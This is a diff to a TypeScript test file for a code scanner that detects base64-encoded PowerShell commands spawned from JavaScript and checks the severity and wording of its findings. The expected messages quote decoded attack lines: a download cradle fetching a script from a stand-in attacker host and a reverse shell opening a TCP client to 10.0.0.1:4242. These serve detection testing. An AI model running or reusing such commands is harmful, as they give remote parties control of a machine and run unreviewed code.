@@ -99,14 +99,24 @@ describe("PowerShell's encoded commands", () => {
     expect(encodedPowerShellCommands(`powershell ${`-enc ${encode("ls")} `.repeat(20_000)}`)).toEqual(Array(8).fill("ls"));
   });
 
+  const file = "test/fixtures/rules/exec/encoded-powershell.js";
+  const encoded = analyzeSource(file, fs.readFileSync(file, "utf8"), exec).findings;
+  const on = (line: number, severity: string) => encoded.filter((finding) => finding.line === line && finding.severity === severity).map((finding) => finding.message);
+
   it("are read as written out: a reverse shell or a download cradle in one is high, naming where it was", () => {
-    const file = "test/fixtures/rules/exec/encoded-powershell.js";
-    const encoded = analyzeSource(file, fs.readFileSync(file, "utf8"), exec).findings;
-    const on = (line: number) => encoded.filter((finding) => finding.line === line).map((finding) => finding.message);
-    expect(on(7)).toEqual(["Connects a shell to a network connection (PowerShell running what a TCP client receives, in an encoded command: child_process.spawn); whoever is at the other end runs commands on this machine"]);
-    expect(on(10)).toEqual(["Runs what it downloads (PowerShell running a downloaded string, in an encoded command: child_process.exec): code no reviewer has seen, which its server can change at will"]);
-    expect(on(13)).toEqual(['Runs "pwsh" (child_process.spawn)']);
-    expect(on(15)).toEqual(['Runs "powershell" (child_process.spawn)']);
+    expect(on(7, "high")).toEqual(["Connects a shell to a network connection (PowerShell running what a TCP client receives, in an encoded command: child_process.spawn); whoever is at the other end runs commands on this machine"]);
+    expect(on(10, "high")).toEqual(["Runs what it downloads (PowerShell running a downloaded string, in an encoded command: child_process.exec): code no reviewer has seen, which its server can change at will"]);
+    expect(on(13, "high")).toEqual([]);
+    expect(on(13, "info")).toEqual(['Runs "pwsh" (child_process.spawn)']);
+    expect(on(15, "info")).toEqual(['Runs "powershell" (child_process.spawn)']);
+  });
+
+  it("are medium however harmless, quoted decoded for the reviewer, and options that are not one are nothing", () => {
+    expect(on(13, "medium")).toEqual(["Hides the command it gives PowerShell in base64 (-EncodedCommand: child_process.spawn); it decodes to: Get-Clipboard"]);
+    expect(on(10, "medium")).toEqual(['Hides the command it gives PowerShell in base64 (-EncodedCommand: child_process.exec); it decodes to: IEX (New-Object Net.WebClient).DownloadString("https://evil.example/a.ps1")']);
+    // A long one is quoted up to 160 characters.
+    expect(on(7, "medium")[0]).toMatch(/it decodes to: \$client = New-Object System\.Net\.Sockets\.TCPClient\("10\.0\.0\.1",4242\);\$stream = .{60,}…$/);
+    expect(on(15, "medium")).toEqual([]);
   });
 });
 
